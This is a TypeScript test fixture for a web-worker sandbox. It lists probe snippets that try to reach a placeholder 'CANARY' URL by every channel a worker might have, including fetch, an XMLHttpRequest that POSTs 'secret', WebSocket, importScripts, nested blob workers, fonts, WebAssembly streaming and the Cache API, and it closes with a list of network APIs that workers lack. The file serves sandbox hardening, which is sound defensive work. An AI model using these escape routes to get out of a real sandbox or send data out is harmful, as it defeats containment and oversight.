import type { WorkerProbe } from '../support/worker-probe.ts';

/** Every way in which a worker could reach the network, each aimed at the canary. */
export const network: readonly WorkerProbe[] = [
  {
    name: 'the native fetch',
    needs: 'natives.fetch',
    attempt: `await natives.fetch('CANARY', { mode: 'no-cors' });`,
  },
  {
    name: 'XMLHttpRequest',
    needs: 'XMLHttpRequest',
    attempt: `
      const request = new XMLHttpRequest();
      request.open('POST', 'CANARY');
      await new Promise((resolve) => { request.onloadend = resolve; request.send('secret'); });`,
  },
  {
    name: 'a synchronous XMLHttpRequest',
    needs: 'XMLHttpRequest',
    attempt: `
      const request = new XMLHttpRequest();
      request.open('GET', 'CANARY', false);
      request.send();`,
  },
  {
    name: 'WebSocket',
    needs: 'WebSocket',
    attempt: `
      const socket = new WebSocket('CANARY'.replace('http', 'ws'));
      await new Promise((resolve) => { socket.onopen = socket.onclose = socket.onerror = resolve; });`,
  },
  {
    name: 'EventSource',
    needs: 'EventSource',
    attempt: `
      const source = new EventSource('CANARY');
      await new Promise((resolve) => { source.onopen = source.onerror = resolve; });
      source.close();`,
  },
  {
    name: 'importScripts',
    needs: 'importScripts',
    attempt: `importScripts('CANARY');`,
  },
  {
    name: 'a worker of its own that fetches',
    needs: '[Worker, natives.createObjectURL]',
    attempt: `
      const code = "fetch('CANARY', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(2))";
      const worker = new Worker(natives.createObjectURL(new natives.Blob([code])));
      await new Promise((resolve) => { worker.onmessage = worker.onerror = resolve; });`,
  },
  {
    name: 'a worker of its own that is a module',
    needs: '[Worker, natives.createObjectURL]',
    attempt: `
      const code = "import 'CANARY';";
      const type = 'text/javascript';
      const worker = new Worker(natives.createObjectURL(new natives.Blob([code], { type })), { type: 'module' });
      await new Promise((resolve) => { worker.onmessage = worker.onerror = resolve; });`,
  },
  {
    name: 'a font',
    needs: 'FontFace',
    absentIn: ['webkit'],
    attempt: `await new FontFace('hostile', 'url("CANARY")').load();`,
  },
  {
    name: 'WebAssembly by streaming',
    needs: '[WebAssembly.compileStreaming, natives.fetch]',
    attempt: `
      const response = natives.fetch('CANARY');
      response.catch(() => {});
      await WebAssembly.compileStreaming(response);`,
  },
  {
    name: 'a script that a blob imports',
    needs: 'natives.createObjectURL',
    attempt: `
      const code = "importScripts('CANARY')";
      importScripts(natives.createObjectURL(new natives.Blob([code], { type: 'text/javascript' })));`,
  },
  {
    name: 'a cache that fetches',
    needs: 'caches',
    attempt: `await (await caches.open('hostile')).add('CANARY');`,
  },
];

/** Ways to the network, or to shared memory, that workers of no engine have, or none in such a frame. */
export const networkNamesThatWorkersLack: readonly string[] = [
  ...['navigator.sendBeacon', 'fetchLater', 'RTCPeerConnection', 'SharedWorker', 'WebTransport'],
  ...['WebSocketStream', 'Image', 'Audio', 'SharedArrayBuffer'],
];
